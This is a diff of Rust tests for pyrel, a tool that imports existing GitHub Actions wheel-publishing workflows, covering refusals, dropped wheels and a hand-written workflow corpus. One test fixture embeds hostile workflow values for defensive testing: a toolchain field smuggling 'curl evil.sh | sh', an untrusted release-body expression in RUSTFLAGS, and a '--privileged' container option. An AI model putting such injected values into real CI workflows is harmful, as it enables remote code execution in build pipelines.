@@ -62,6 +62,9 @@ struct Style {
     environment: &'static str,
     testpypi_environment: Option<&'static str>,
     github_release: bool,
+    /// What pyrel cannot keep: `init --yes` refuses naming each (exit 1,
+    /// nothing written), then `--allow-drop` writes.
+    drops: &'static [&'static str],
 }
 
 const STYLES: &[Style] = &[
@@ -88,6 +91,7 @@ const STYLES: &[Style] = &[
         environment: "release",
         testpypi_environment: None,
         github_release: false,
+        drops: &[],
     },
     Style {
         file: "one-job-per-target.yml",
@@ -110,6 +114,7 @@ const STYLES: &[Style] = &[
         environment: "pypi",
         testpypi_environment: None,
         github_release: false,
+        drops: &[],
     },
     Style {
         file: "cibuildwheel.yml",
@@ -133,6 +138,7 @@ const STYLES: &[Style] = &[
         environment: "pypi",
         testpypi_environment: None,
         github_release: false,
+        drops: &[],
     },
     Style {
         file: "uv.yml",
@@ -147,6 +153,7 @@ const STYLES: &[Style] = &[
         environment: "release",
         testpypi_environment: Some("test-release"),
         github_release: false,
+        drops: &[],
     },
     Style {
         file: "twine.yml",
@@ -161,6 +168,7 @@ const STYLES: &[Style] = &[
         environment: "production",
         testpypi_environment: None,
         github_release: true,
+        drops: &[],
     },
     Style {
         file: "python-v-prefix.yml",
@@ -182,6 +190,7 @@ const STYLES: &[Style] = &[
         environment: "pypi-python",
         testpypi_environment: None,
         github_release: false,
+        drops: &[],
     },
     Style {
         file: "ci-style.yml",
@@ -202,6 +211,10 @@ const STYLES: &[Style] = &[
         environment: "pypi",
         testpypi_environment: None,
         github_release: false,
+        drops: &[
+            "DROPPED  wheels linux-x86_64: free-threaded CPython 3.13 (pyrel builds free-threaded CPython 3.14)",
+            "DROPPED  wheels windows-x64: free-threaded CPython 3.13 (pyrel builds free-threaded CPython 3.14)",
+        ],
     },
 ];
 
@@ -214,7 +227,25 @@ fn adopt(style: &Style) -> (Repo, String) {
     )
     .unwrap();
     repo.write(&format!(".github/workflows/{}", style.file), &old);
-    let out = repo.pyrel(&["init", ".", "--yes"]);
+    if style.drops.is_empty() {
+        let out = repo.pyrel(&["init", ".", "--yes"]);
+        out.expect(0);
+        return (repo, out.stderr());
+    }
+    let before = repo.tree();
+    let refused = repo.pyrel(&["init", ".", "--yes"]);
+    refused.expect(1);
+    let err = refused.stderr();
+    for d in style.drops {
+        assert!(err.contains(d), "{}: missing {d:?} in:\n{err}", style.file);
+    }
+    assert_eq!(
+        repo.tree(),
+        before,
+        "{}: a refused init wrote something",
+        style.file
+    );
+    let out = repo.pyrel(&["init", ".", "--yes", "--allow-drop"]);
     out.expect(0);
     (repo, out.stderr())
 }
@@ -299,7 +330,9 @@ fn hand_written_styles_are_adopted_exactly() {
             "{report}"
         );
         assert!(report.contains("also uploads to PyPI"), "{report}");
-        assert!(!report.contains("DROPPED"), "{label}: {report}");
+        if style.drops.is_empty() {
+            assert!(!report.contains("DROPPED"), "{label}: {report}");
+        }
         let section = migrating_section(&repo);
         repo.pyrel(&["generate", "--check"]).expect(0);
         snapshot!(
@@ -327,7 +360,7 @@ fn dropping_an_imported_platform_needs_allow_drop() {
     out.expect(1);
     let err = out.stderr();
     assert!(
-        err.contains("DROPPED  platform linux-s390x (removed with --platforms)"),
+        err.contains("DROPPED  wheels linux-s390x: CPython (removed with --platforms)"),
         "{err}"
     );
     assert!(err.contains("--allow-drop"), "{err}");
@@ -406,7 +439,18 @@ fn malformed_workflows_never_fail_init() {
             .into(),
     );
     repo.write(".github/workflows/bomb.yml", &bomb.join("\n"));
-    let out = repo.pyrel(&["init", "--yes"]);
+    // What could not be read may be wheels: refused under --yes, written
+    // with --allow-drop (pyrel's defaults for what it could not read).
+    let before = repo.tree();
+    let refused = repo.pyrel(&["init", "--yes"]);
+    refused.expect(1);
+    assert!(
+        refused.stderr().contains("--allow-drop"),
+        "{}",
+        refused.stderr()
+    );
+    assert_eq!(repo.tree(), before);
+    let out = repo.pyrel(&["init", "--yes", "--allow-drop"]);
     out.expect(0);
     let err = out.stderr();
     for expected in [
@@ -673,11 +717,17 @@ jobs:
     out.expect(1);
     let err = out.stderr();
     assert!(
-        err.contains("DROPPED  platform linux-loongarch64 (pyrel cannot build it)"),
+        err.contains(
+            "DROPPED  wheels linux-loongarch64: CPython 3.12, GraalPy 3.11 (pyrel cannot build it)"
+        ),
         "{err}"
     );
     assert!(
         err.contains("DROPPED  interpreters GraalPy (pyrel cannot build it)"),
+        "{err}"
+    );
+    assert!(
+        err.contains("DROPPED  wheels linux-x86_64: GraalPy 3.11 (pyrel cannot build it)"),
         "{err}"
     );
     assert_eq!(repo.tree(), before);
@@ -774,12 +824,22 @@ jobs:
       - uses: pypa/gh-action-pypi-publish@release/v1
 "#,
     );
-    let out = repo.pyrel(&["init", "--yes"]);
+    // The before-script's value is only known at run time: unread, so a
+    // possible drop.
+    let refused = repo.pyrel(&["init", "--yes"]);
+    refused.expect(1);
+    assert!(
+        refused.stderr().contains(
+            "unread   .github/workflows/wheels.yml:8: job `linux`: before-script-linux ${{ github.event.release.body }} cannot be resolved"
+        ),
+        "{}",
+        refused.stderr()
+    );
+    let out = repo.pyrel(&["init", "--yes", "--allow-drop"]);
     out.expect(0);
     let err = out.stderr();
     for note in [
         "note     manylinux not imported",
-        "note     before-script-linux not imported",
         "note     environment not imported",
     ] {
         assert!(err.contains(note), "missing {note:?}:\n{err}");
@@ -789,4 +849,689 @@ jobs:
     let doc = saved(&repo, ".");
     assert_eq!(text(&doc, "environment").as_deref(), Some("pypi"));
     assert_eq!(list(&doc, "platforms"), ["linux-x86_64"]);
+}
+
+// ---- the hand-written corpus: every style the reader must account for ----
+
+/// One hand-written workflow (`tests/fixtures/workflows/corpus/`) and what
+/// the old workflow builds, worked out by hand from its text.
+struct Corpus {
+    /// Corpus file and where it goes in the repository.
+    file: &'static str,
+    at: &'static str,
+    fixture: &'static str,
+    /// More corpus files: (corpus file, repository path).
+    extra: &'static [(&'static str, &'static str)],
+    /// A corpus file appended to the fixture's pyproject.toml.
+    pyproject: Option<&'static str>,
+    /// The platforms the old workflow builds wheels for that pyrel can build
+    /// (what `[tool.pyrel] platforms` must hold afterwards).
+    platforms: &'static [&'static str],
+    pypy: bool,
+    free_threaded: bool,
+    /// Every difference `init --yes` must name before refusing (exit 1,
+    /// nothing written); empty: it writes at once, with no DROPPED line.
+    refused: &'static [&'static str],
+    /// `[tool.pyrel]` values that carry the old settings: (dotted path, value).
+    saved: &'static [(&'static str, &'static str)],
+    /// Text the generated workflow must contain for those settings.
+    rendered: &'static [&'static str],
+}
+
+const CORPUS: &[Corpus] = &[
+    Corpus {
+        file: "objects-matrix.yml",
+        at: ".github/workflows/release.yml",
+        fixture: "mixed",
+        extra: &[],
+        pyproject: None,
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "musllinux-x86_64",
+            "musllinux-aarch64",
+            "macos-x86_64",
+            "macos-aarch64",
+        ],
+        pypy: false,
+        free_threaded: false,
+        refused: &["replaces .github/workflows/release.yml"],
+        saved: &[("trigger", "release"), ("environment", "pypi")],
+        rendered: &[],
+    },
+    Corpus {
+        file: "or-fallbacks.yml",
+        at: ".github/workflows/wheels.yml",
+        fixture: "mixed",
+        extra: &[],
+        pyproject: None,
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "musllinux-x86_64",
+            "musllinux-aarch64",
+        ],
+        pypy: true,
+        free_threaded: false,
+        refused: &["DROPPED  wheels musllinux-x86_64: PyPy 3.11 (pyrel builds PyPy on"],
+        saved: &[("manylinux", "auto"), ("environment", "release")],
+        rendered: &[],
+    },
+    Corpus {
+        file: "include-manylinux.yml",
+        at: ".github/workflows/build.yml",
+        fixture: "abi3",
+        extra: &[],
+        pyproject: None,
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "linux-armv7",
+            "linux-s390x",
+            "linux-ppc64le",
+            "musllinux-x86_64",
+            "musllinux-aarch64",
+        ],
+        pypy: false,
+        free_threaded: false,
+        refused: &["DROPPED  wheels musllinux-ppc64le: CPython (pyrel cannot build it)"],
+        saved: &[("manylinux", "2_28")],
+        rendered: &[],
+    },
+    Corpus {
+        file: "windows-run-maturin.yml",
+        at: ".github/workflows/publish.yml",
+        fixture: "mixed",
+        extra: &[],
+        pyproject: None,
+        platforms: &["windows-x64", "windows-x86", "linux-x86_64"],
+        pypy: false,
+        free_threaded: false,
+        refused: &[],
+        saved: &[("manylinux", "auto")],
+        rendered: &[],
+    },
+    Corpus {
+        file: "composite-action.yml",
+        at: ".github/workflows/publish.yml",
+        fixture: "abi3",
+        extra: &[(
+            "composite-action.action.yml",
+            ".github/actions/build-wheels/action.yml",
+        )],
+        pyproject: None,
+        platforms: &["linux-x86_64", "linux-aarch64", "macos-aarch64"],
+        pypy: false,
+        free_threaded: false,
+        refused: &[],
+        // The action's own default for an input the workflow does not pass.
+        saved: &[("manylinux", "2_28")],
+        rendered: &[],
+    },
+    Corpus {
+        file: "reusable-caller.yml",
+        at: ".github/workflows/publish.yml",
+        fixture: "abi3",
+        extra: &[("reusable-build.yml", ".github/workflows/build-wheels.yml")],
+        pyproject: None,
+        platforms: &["linux-x86_64", "linux-aarch64", "linux-armv7", "windows-x64"],
+        pypy: false,
+        free_threaded: false,
+        refused: &[],
+        saved: &[("trigger", "tag"), ("tag-prefix", "v")],
+        rendered: &[],
+    },
+    Corpus {
+        file: "cibw-pyproject.yml",
+        at: ".github/workflows/wheels.yml",
+        fixture: "strust-abi3",
+        extra: &[],
+        pyproject: Some("cibw-pyproject.toml"),
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "macos-aarch64",
+            "windows-x64",
+        ],
+        pypy: false,
+        free_threaded: false,
+        refused: &[
+            "DROPPED  cibuildwheel before-all (linux) \"yum install -y openssl-devel\" on linux-aarch64, linux-x86_64",
+        ],
+        saved: &[],
+        rendered: &[],
+    },
+    Corpus {
+        file: "per-target-settings.yml",
+        at: ".github/workflows/ci.yml",
+        fixture: "mixed",
+        extra: &[],
+        pyproject: None,
+        platforms: &["linux-x86_64", "linux-aarch64", "macos-aarch64"],
+        pypy: false,
+        free_threaded: false,
+        refused: &[],
+        saved: &[
+            ("platform.linux-x86_64.maturin-args", "--features simd,jemalloc"),
+            ("platform.linux-x86_64.env.RUSTFLAGS", "-C target-cpu=x86-64-v2"),
+            ("platform.linux-aarch64.maturin-args", "--features jemalloc"),
+            ("platform.linux-aarch64.env.JEMALLOC_SYS_WITH_LG_PAGE", "16"),
+            ("platform.macos-aarch64.maturin-args", "--features simd"),
+            ("platform.macos-aarch64.env.MACOSX_DEPLOYMENT_TARGET", "11.0"),
+        ],
+        rendered: &[
+            "maturin-args: \"--features simd,jemalloc\"",
+            "RUSTFLAGS: \"-C target-cpu=x86-64-v2\"",
+            "JEMALLOC_SYS_WITH_LG_PAGE: \"16\"",
+            "MACOSX_DEPLOYMENT_TARGET: \"11.0\"",
+            "matrix.maturin-args",
+        ],
+    },
+    Corpus {
+        file: "nightly.yml",
+        at: ".github/workflows/wheels.yml",
+        fixture: "abi3",
+        extra: &[],
+        pyproject: None,
+        platforms: &["linux-x86_64", "linux-aarch64", "macos-aarch64"],
+        pypy: false,
+        free_threaded: false,
+        refused: &[],
+        saved: &[
+            ("platform.linux-x86_64.rust-toolchain", "nightly-2025-06-01"),
+            ("platform.linux-aarch64.rust-toolchain", "nightly-2025-06-01"),
+            ("platform.macos-aarch64.rust-toolchain", "nightly-2025-06-01"),
+        ],
+        rendered: &[
+            "rust-toolchain: \"nightly-2025-06-01\"",
+            "rust-toolchain: ${{ matrix.rust-toolchain }}",
+        ],
+    },
+    Corpus {
+        file: "custom-build.yml",
+        at: ".github/workflows/wheels.yml",
+        fixture: "mixed",
+        extra: &[],
+        pyproject: None,
+        platforms: &["macos-aarch64"],
+        pypy: false,
+        free_threaded: false,
+        refused: &[
+            "unread   .github/workflows/wheels.yml:17: job `manylinux`: step `Build the wheels`",
+            "builds distributions in a way pyrel cannot import",
+        ],
+        saved: &[],
+        rendered: &[],
+    },
+    Corpus {
+        file: "script-upload.yml",
+        at: ".github/workflows/publish.yml",
+        fixture: "hatch",
+        extra: &[],
+        pyproject: None,
+        platforms: &[],
+        pypy: false,
+        free_threaded: false,
+        refused: &[],
+        saved: &[
+            ("publish", "token"),
+            ("token-secret", "PYPI_API_TOKEN"),
+            ("environment", "release"),
+            ("trigger", "tag"),
+        ],
+        rendered: &[],
+    },
+    Corpus {
+        file: "cargo-dist-release.yml",
+        at: ".github/workflows/release.yml",
+        fixture: "abi3",
+        extra: &[],
+        pyproject: None,
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "musllinux-x86_64",
+            "musllinux-aarch64",
+            "windows-x64",
+            "macos-x86_64",
+            "macos-aarch64",
+        ],
+        pypy: false,
+        free_threaded: false,
+        refused: &[],
+        saved: &[("workflow", ".github/workflows/release-pypi.yml")],
+        rendered: &[],
+    },
+];
+
+fn corpus_text(name: &str) -> String {
+    std::fs::read_to_string(
+        common::manifest_dir()
+            .join("tests/fixtures/workflows/corpus")
+            .join(name),
+    )
+    .unwrap()
+}
+
+fn corpus_repo(c: &Corpus) -> Repo {
+    let repo = Repo::fixture(c.fixture);
+    repo.write(c.at, &corpus_text(c.file));
+    for (file, at) in c.extra {
+        repo.write(at, &corpus_text(file));
+    }
+    if let Some(extra) = c.pyproject {
+        let text = repo.read("pyproject.toml") + &corpus_text(extra);
+        repo.write("pyproject.toml", &text);
+    }
+    repo
+}
+
+/// `[tool.pyrel]`'s value at a dotted path (`platform.linux-x86_64.env.RUSTFLAGS`).
+fn saved_at(doc: &toml_edit::DocumentMut, path: &str) -> Option<String> {
+    let mut item = doc["tool"]["pyrel"]
+        .as_table_like()?
+        .get(path.split('.').next()?)?;
+    let parts: Vec<&str> = path.split('.').collect();
+    // Platform names hold dots? No: but env names follow `env.`.
+    let mut i = 1;
+    while i < parts.len() {
+        item = item.as_table_like()?.get(parts[i])?;
+        i += 1;
+    }
+    item.as_str().map(str::to_string)
+}
+
+/// Adopt one corpus workflow: refused naming each difference, then written
+/// with --allow-drop (or at once when nothing differs).
+fn adopt_corpus(c: &Corpus) -> (Repo, String) {
+    let repo = corpus_repo(c);
+    if c.refused.is_empty() {
+        let out = repo.pyrel(&["init", "--yes"]);
+        out.expect(0);
+        let report = out.stderr();
+        assert!(!report.contains("DROPPED"), "{}: {report}", c.file);
+        assert!(!report.contains("unread"), "{}: {report}", c.file);
+        return (repo, report);
+    }
+    let before = repo.tree();
+    let refused = repo.pyrel(&["init", "--yes"]);
+    refused.expect(1);
+    let err = refused.stderr();
+    for r in c.refused {
+        assert!(err.contains(r), "{}: missing {r:?} in:\n{err}", c.file);
+    }
+    assert_eq!(
+        repo.tree(),
+        before,
+        "{}: a refused init wrote something",
+        c.file
+    );
+    let args: &[&str] = if c.refused.iter().any(|r| r.starts_with("replaces")) {
+        &["init", "--yes", "--replace"]
+    } else {
+        &["init", "--yes", "--allow-drop"]
+    };
+    let out = repo.pyrel(args);
+    out.expect(0);
+    (repo, out.stderr())
+}
+
+#[test]
+fn the_hand_written_corpus_is_adopted_or_refused_by_name() {
+    assert!(CORPUS.len() >= 12);
+    for c in CORPUS {
+        let (repo, report) = adopt_corpus(c);
+        let doc = saved(&repo, ".");
+        let label = c.file;
+        assert_eq!(
+            list(&doc, "platforms").into_iter().collect::<BTreeSet<_>>(),
+            set(c.platforms),
+            "{label}: the planned platforms differ from the old workflow's:\n{report}"
+        );
+        assert_eq!(flag(&doc, "pypy").unwrap_or(false), c.pypy, "{label}: pypy");
+        if c.free_threaded {
+            assert_eq!(flag(&doc, "free-threaded"), Some(true), "{label}");
+        }
+        for (path, value) in c.saved {
+            assert_eq!(
+                saved_at(&doc, path).as_deref(),
+                Some(*value),
+                "{label}: [tool.pyrel] {path}:\n{}",
+                repo.read("pyproject.toml")
+            );
+        }
+        let workflow = text(&doc, "workflow").unwrap_or(".github/workflows/release.yml".into());
+        let rendered = repo.read(&workflow);
+        for r in c.rendered {
+            assert!(
+                rendered.contains(r),
+                "{label}: {r:?} not in the workflow:\n{rendered}"
+            );
+        }
+        repo.pyrel(&["generate", "--check"]).expect(0);
+    }
+}
+
+/// Settings per platform are rendered in `with:`/`env:` and the matrix,
+/// never in `run:`; a build variable is never set (even empty) for a
+/// platform that did not set it.
+#[test]
+fn per_platform_settings_never_reach_run_scripts_or_other_platforms() {
+    let c = CORPUS
+        .iter()
+        .find(|c| c.file == "per-target-settings.yml")
+        .unwrap();
+    let (repo, _) = adopt_corpus(c);
+    let wf: serde_yaml::Value =
+        serde_yaml::from_str(&repo.read(".github/workflows/release.yml")).unwrap();
+    for (_, job) in wf["jobs"].as_mapping().unwrap() {
+        for step in job["steps"].as_sequence().into_iter().flatten() {
+            if let Some(run) = step["run"].as_str() {
+                assert!(!run.contains("${{"), "{run}");
+                assert!(!run.contains("target-cpu"), "{run}");
+            }
+            let Some(env) = step["env"].as_mapping() else {
+                continue;
+            };
+            if env.contains_key("RUSTFLAGS") {
+                assert_eq!(
+                    step["if"].as_str(),
+                    Some("matrix.platform == 'linux-x86_64'"),
+                    "RUSTFLAGS set beyond linux-x86_64: {step:?}"
+                );
+            }
+        }
+    }
+}
+
+/// A workflow at pyrel's path that does not publish to PyPI (cargo-dist's
+/// release.yml) is never overwritten: pyrel takes a free name and says so;
+/// asking for that path with --force is refused.
+#[test]
+fn a_non_pypi_release_yml_is_left_alone() {
+    let c = CORPUS
+        .iter()
+        .find(|c| c.file == "cargo-dist-release.yml")
+        .unwrap();
+    let repo = corpus_repo(c);
+    let old = repo.read(".github/workflows/release.yml");
+    let out = repo.pyrel(&["init", "--yes"]);
+    out.expect(0);
+    assert!(
+        out.stderr().contains("path     .github/workflows/release.yml is a workflow that does not build or publish Python distributions"),
+        "{}",
+        out.stderr()
+    );
+    assert_eq!(repo.read(".github/workflows/release.yml"), old);
+    assert!(repo
+        .read(".github/workflows/release-pypi.yml")
+        .contains("pyrel-digest"));
+
+    let repo = corpus_repo(c);
+    let before = repo.tree();
+    repo.pyrel(&[
+        "init",
+        "--yes",
+        "--force",
+        "--workflow",
+        ".github/workflows/release.yml",
+    ])
+    .expect(1);
+    assert_eq!(repo.tree(), before);
+}
+
+/// doctor's other-publisher reads publishers with the adoption reader: a
+/// token upload hidden in a script, and maturin-action `command: upload`.
+#[test]
+fn doctor_sees_every_publisher_the_reader_sees() {
+    let c = CORPUS
+        .iter()
+        .find(|c| c.file == "script-upload.yml")
+        .unwrap();
+    let (repo, _) = adopt_corpus(c);
+    let out = repo.pyrel(&["doctor"]);
+    out.expect(1);
+    let text = out.stdout() + &out.stderr();
+    assert!(
+        text.contains("error[other-publisher] .github/workflows/publish.yml:33:")
+            && text.contains("a script holding PyPI credentials, job `publish`"),
+        "{text}"
+    );
+}
+
+#[test]
+#[ignore = "needs actionlint, zizmor: run scripts/test.sh"]
+fn adopted_corpus_workflows_pass_the_validators() {
+    for c in CORPUS {
+        let (repo, _) = adopt_corpus(c);
+        let doc = saved(&repo, ".");
+        let workflow = text(&doc, "workflow").unwrap_or(".github/workflows/release.yml".into());
+        let file = repo.path().join(&workflow);
+        assert_actionlint(&file);
+        assert_zizmor(&file, text(&doc, "publish").as_deref() == Some("token"));
+    }
+}
+
+/// One migration story: after the old publishing job is deleted (step 2),
+/// `pyrel generate` (step 3) drops the "Migrating from" section, and doctor
+/// no longer names an other publisher; until then `generate --check` says
+/// RELEASING.md is out of date rather than leaving it stale silently.
+#[test]
+fn retiring_the_old_publisher_follows_the_story() {
+    let (repo, report) = adopt(&STYLES[5]);
+    let old = ".github/workflows/python-v-prefix.yml";
+    assert!(
+        report.contains("retire   2. delete the publishing job(s) `release`"),
+        "{report}"
+    );
+    assert!(migrating_section(&repo).contains("2. delete the publishing job(s) `release`"));
+    let doctor = repo.pyrel(&["doctor"]);
+    let text = doctor.stdout() + &doctor.stderr();
+    assert!(
+        text.contains("2. delete the publishing job(s) `release`"),
+        "{text}"
+    );
+
+    std::fs::remove_file(repo.path().join(old)).unwrap();
+    let check = repo.pyrel(&["generate", "--check"]);
+    check.expect(1);
+    assert!(
+        check.stderr().contains("RELEASING.md"),
+        "{}",
+        check.stderr()
+    );
+    repo.pyrel(&["generate"]).expect(0);
+    assert!(!repo.read("RELEASING.md").contains("## Migrating from"));
+    let doctor = repo.pyrel(&["doctor"]);
+    let text = doctor.stdout() + &doctor.stderr();
+    assert!(!text.contains("other-publisher"), "{text}");
+    repo.pyrel(&["generate", "--check"]).expect(0);
+}
+
+/// Per-platform settings read from a workflow are as hostile as any input:
+/// a value pyrel would reject is not imported (a note says why, the report
+/// names it DROPPED), one only the run knows is unread, and neither ever
+/// reaches the generated workflow.
+#[test]
+fn hostile_per_platform_settings_are_named_not_rendered() {
+    let repo = Repo::fixture("abi3");
+    repo.write(
+        ".github/workflows/wheels.yml",
+        r#"on:
+  release:
+    types: [published]
+jobs:
+  linux:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        include:
+          - {target: x86_64, toolchain: "nightly; curl evil.sh | sh"}
+          - {target: aarch64, toolchain: nightly-2025-06-01}
+    steps:
+      - uses: PyO3/maturin-action@v1
+        env:
+          RUSTFLAGS: -C opt-level=3 ${{ github.event.release.body }}
+        with:
+          target: ${{ matrix.target }}
+          rust-toolchain: ${{ matrix.toolchain }}
+          container: "img:1 --privileged"
+          args: --release --out dist
+  publish:
+    runs-on: ubuntu-latest
+    environment: pypi
+    permissions: {id-token: write}
+    steps:
+      - uses: pypa/gh-action-pypi-publish@release/v1
+"#,
+    );
+    let before = repo.tree();
+    let refused = repo.pyrel(&["init", "--yes"]);
+    refused.expect(1);
+    let err = refused.stderr();
+    for expected in [
+        "note     rust-toolchain on linux-x86_64 not imported",
+        "note     container on linux-x86_64 not imported",
+        "DROPPED  rust-toolchain \"nightly; curl evil.sh | sh\" on linux-x86_64",
+        "unread   .github/workflows/wheels.yml:13: job `linux`: env RUSTFLAGS = ${{ github.event.release.body }} cannot be resolved",
+        "kept     rust-toolchain \"nightly-2025-06-01\" on linux-aarch64",
+    ] {
+        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
+    }
+    assert_eq!(repo.tree(), before);
+    repo.pyrel(&["init", "--yes", "--allow-drop"]).expect(0);
+    let wf = repo.read(".github/workflows/release.yml");
+    for bad in ["evil.sh", "release.body", "--privileged", "opt-level"] {
+        assert!(!wf.contains(bad), "{bad} reached the workflow:\n{wf}");
+    }
+    assert!(wf.contains("nightly-2025-06-01"));
+    repo.pyrel(&["generate", "--check"]).expect(0);
+}
+
+// ---- end to end: mutated workflows through `pyrel init --yes` ----
+
+mod mutated {
+    use super::*;
+    use proptest::prelude::*;
+    use serde_yaml::{Mapping, Value};
+
+    const STYLES: &[(&str, &str)] = &[
+        ("python-v-prefix.yml", "abi3"),
+        ("per-os-include.yml", "mixed"),
+        ("one-job-per-target.yml", "abi3"),
+        ("corpus/objects-matrix.yml", "mixed"),
+        ("corpus/nightly.yml", "abi3"),
+    ];
+
+    fn is_build(step: &Value) -> bool {
+        let uses = step["uses"].as_str().unwrap_or("");
+        let command = step["with"]["command"].as_str().unwrap_or("build");
+        uses.contains("maturin-action") && matches!(command, "build" | "publish")
+    }
+
+    /// (saved platforms, pypy, free-threaded) after `init --yes`, or None
+    /// when init refused; and the report.
+    fn adopt(fixture: &str, text: &str) -> (Option<(BTreeSet<String>, bool, bool)>, String) {
+        let repo = Repo::fixture(fixture);
+        repo.write(".github/workflows/wheels.yml", text);
+        let out = repo.pyrel(&["init", "--yes"]);
+        let report = out.stderr();
+        match out.code() {
+            0 => {
+                let doc = saved(&repo, ".");
+                let planned = (
+                    list(&doc, "platforms").into_iter().collect(),
+                    flag(&doc, "pypy").unwrap_or(false),
+                    flag(&doc, "free-threaded").unwrap_or(false),
+                );
+                (Some(planned), report)
+            }
+            1 => (None, report),
+            c => panic!("init exited {c}:\n{report}"),
+        }
+    }
+
+    fn mutate(doc: &mut Value, job_pick: usize, kind: usize, pick: usize) -> bool {
+        let jobs = doc["jobs"].as_mapping_mut().unwrap();
+        let ids: Vec<Value> = jobs
+            .iter()
+            .filter(|(_, j)| {
+                j["steps"]
+                    .as_sequence()
+                    .is_some_and(|s| s.iter().any(is_build))
+            })
+            .map(|(k, _)| k.clone())
+            .collect();
+        let Some(id) = ids.get(job_pick % ids.len().max(1)) else {
+            return false;
+        };
+        let job = jobs.get_mut(id).unwrap().as_mapping_mut().unwrap();
+        let rename = |m: &mut Mapping| {
+            let keys: Vec<Value> = m.keys().cloned().collect();
+            let k = keys[pick % keys.len()].clone();
+            let v = m.remove(&k).unwrap();
+            m.insert(Value::String(format!("{}_", k.as_str().unwrap())), v);
+        };
+        match kind {
+            0 => {
+                let steps = job.get_mut("steps").unwrap().as_sequence_mut().unwrap();
+                let at = steps.iter().position(is_build).unwrap();
+                steps.insert(
+                    at,
+                    serde_yaml::from_str("{run: ./scripts/patch-cargo.sh}").unwrap(),
+                );
+            }
+            1 => rename(job),
+            2 => {
+                let steps = job.get_mut("steps").unwrap().as_sequence_mut().unwrap();
+                let at = steps.iter().position(is_build).unwrap();
+                match steps[at].get_mut("with").and_then(Value::as_mapping_mut) {
+                    Some(with) => rename(with),
+                    None => return false,
+                }
+            }
+            _ => {
+                let Some(matrix) = job
+                    .get_mut("strategy")
+                    .and_then(|s| s.get_mut("matrix"))
+                    .and_then(Value::as_mapping_mut)
+                else {
+                    return false;
+                };
+                rename(matrix);
+            }
+        }
+        true
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]
+
+        /// Never exit 0 with fewer wheels than the unmutated workflow's
+        /// adoption and no DROPPED/unread line.
+        #[test]
+        fn init_never_loses_wheels_silently(style in 0..STYLES.len(), job in 0..4usize, kind in 0..4usize, pick in 0..8usize) {
+            let (file, fixture) = STYLES[style];
+            let text = std::fs::read_to_string(
+                common::manifest_dir().join("tests/fixtures/workflows").join(file),
+            )
+            .unwrap();
+            let (Some(before), _) = adopt(fixture, &text) else {
+                return Ok(()); // the unmutated style is refused: nothing to compare
+            };
+            let mut doc: Value = serde_yaml::from_str(&text).unwrap();
+            prop_assume!(mutate(&mut doc, job, kind, pick));
+            let mutated = serde_yaml::to_string(&doc).unwrap();
+            let (after, report) = adopt(fixture, &mutated);
+            if let Some((platforms, pypy, ft)) = after {
+                let lost: Vec<_> = before.0.difference(&platforms).collect();
+                prop_assert!(
+                    (lost.is_empty() && (pypy || !before.1) && (ft || !before.2))
+                        || report.contains("DROPPED")
+                        || report.contains("unread"),
+                    "exit 0, lost {lost:?} (pypy {pypy}, free-threaded {ft}) silently:\n{mutated}\n{report}"
+                );
+            }
+        }
+    }
 }
